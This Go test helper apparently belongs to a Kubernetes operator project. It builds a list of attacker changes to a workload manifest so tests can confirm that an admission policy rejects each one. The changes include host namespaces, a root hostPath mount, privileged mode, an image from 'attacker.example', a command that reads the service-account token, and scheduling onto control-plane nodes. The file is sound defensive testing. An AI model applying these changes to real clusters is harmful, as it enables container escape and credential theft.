/*
Copyright 2026 The kops addon operators Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package operatortest

import (
	"k8s.io/apimachinery/pkg/api/equality"
	"k8s.io/apimachinery/pkg/runtime"
)

// WorkloadAttacks are what an attacker holding an operator's rights would write instead of the
// rendered workload obj, one change each, each valid to the API server so that only the admission
// policy stands in the way. Changes obj already has are left out.
func WorkloadAttacks(obj map[string]interface{}) []Mutation {
	const foreign = "attacker.example/pwn:1"
	pod := func(change func(spec map[string]interface{})) func(map[string]interface{}) {
		return func(o map[string]interface{}) { change(path(o, "spec", "template", "spec")) }
	}
	first := func(change func(c map[string]interface{})) func(map[string]interface{}) {
		return pod(func(spec map[string]interface{}) {
			change(spec["containers"].([]interface{})[0].(map[string]interface{}))
		})
	}
	securityContext := func(change func(sc map[string]interface{})) func(map[string]interface{}) {
		return first(func(c map[string]interface{}) { change(path(c, "securityContext")) })
	}
	volume := func(name string, source map[string]interface{}) func(map[string]interface{}) {
		return pod(func(spec map[string]interface{}) {
			spec["volumes"] = append(list(spec["volumes"]), map[string]interface{}{"name": name, source["kind"].(string): source["spec"]})
			c := spec["containers"].([]interface{})[0].(map[string]interface{})
			c["volumeMounts"] = append(list(c["volumeMounts"]), map[string]interface{}{"name": name, "mountPath": "/" + name})
		})
	}
	attacks := []struct {
		name   string
		change func(map[string]interface{})
	}{
		{"the host's network", pod(func(s map[string]interface{}) { s["hostNetwork"] = true })},
		{"the host's PID namespace", pod(func(s map[string]interface{}) { s["hostPID"] = true })},
		{"the host's IPC namespace", pod(func(s map[string]interface{}) { s["hostIPC"] = true })},
		{"the node's root file system", volume("host-root", map[string]interface{}{"kind": "hostPath", "spec": map[string]interface{}{"path": "/", "type": ""}})},
		{"a Secret mounted", volume("token", map[string]interface{}{"kind": "secret", "spec": map[string]interface{}{"secretName": "bootstrap-token-abcdef", "defaultMode": int64(420)}})},
		{"privileged", securityContext(func(sc map[string]interface{}) { sc["privileged"] = true; delete(sc, "allowPrivilegeEscalation") })},
		{"SYS_ADMIN", securityContext(func(sc map[string]interface{}) {
			caps := path(sc, "capabilities")
			caps["add"] = append(list(caps["add"]), "SYS_ADMIN")
		})},
		{"another image", first(func(c map[string]interface{}) { c["image"] = foreign })},
		{"another command", first(func(c map[string]interface{}) {
			c["command"] = []interface{}{"/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"}
		})},
		{"a host port", first(func(c map[string]interface{}) {
			c["ports"].([]interface{})[0].(map[string]interface{})["hostPort"] = int64(10053)
		})},
		{"an extra container", pod(func(s map[string]interface{}) {
			s["containers"] = append(list(s["containers"]), container("extra", foreign))
		})},
		{"an init container", pod(func(s map[string]interface{}) {
			s["initContainers"] = []interface{}{container("init", foreign)}
		})},
		{"every taint tolerated (control-plane nodes)", pod(func(s map[string]interface{}) {
			s["tolerations"] = append(list(s["tolerations"]), map[string]interface{}{"operator": "Exists"})
		})},
		{"control-plane nodes selected", pod(func(s map[string]interface{}) {
			path(s, "nodeSelector")["node-role.kubernetes.io/control-plane"] = ""
		})},
		{"a node named", pod(func(s map[string]interface{}) { s["nodeName"] = "control-plane-1" })},
		{"another selector", func(o map[string]interface{}) {
			labels := map[string]interface{}{"k8s-app": "kube-proxy"}
			path(o, "spec", "selector")["matchLabels"] = labels
			path(o, "spec", "template", "metadata")["labels"] = runtime.DeepCopyJSONValue(labels)
		}},
		{"another rollout", func(o map[string]interface{}) {
			spec := path(o, "spec")
			if _, ok := spec["updateStrategy"]; ok {
				spec["updateStrategy"] = map[string]interface{}{"type": "OnDelete"}
			} else {
				spec["strategy"] = map[string]interface{}{"type": "Recreate"}
			}
		}},
		{"another account", pod(func(s map[string]interface{}) {
			s["serviceAccountName"], s["serviceAccount"] = "kube-proxy", "kube-proxy"
		})},
		{"the account's token mounted", pod(func(s map[string]interface{}) { s["automountServiceAccountToken"] = true })},
		{"seccomp unconfined", pod(func(s map[string]interface{}) {
			path(s, "securityContext")["seccompProfile"] = map[string]interface{}{"type": "Unconfined"}
		})},
		{"a cloud role for its pods", func(o map[string]interface{}) {
			path(o, "spec", "template", "metadata", "annotations")["iam.amazonaws.com/role"] = "admin"
		}},
	}
	out := make([]Mutation, 0, len(attacks))
	for _, a := range attacks {
		changed := runtime.DeepCopyJSON(obj)
		a.change(changed)
		// What the rendering already does is no attack: a workload that needs its token mounts it.
		if equality.Semantic.DeepEqual(changed, obj) {
			continue
		}
		out = append(out, Mutation{Path: a.name, Object: changed})
	}
	return out
}

func container(name, image string) map[string]interface{} {
	return map[string]interface{}{"name": name, "image": image, "imagePullPolicy": "IfNotPresent",
		"terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "resources": map[string]interface{}{}}
}

func path(m map[string]interface{}, keys ...string) map[string]interface{} {
	for _, k := range keys {
		next, ok := m[k].(map[string]interface{})
		if !ok {
			next = map[string]interface{}{}
			m[k] = next
		}
		m = next
	}
	return m
}

func list(v interface{}) []interface{} {
	l, _ := v.([]interface{})
	return l
}
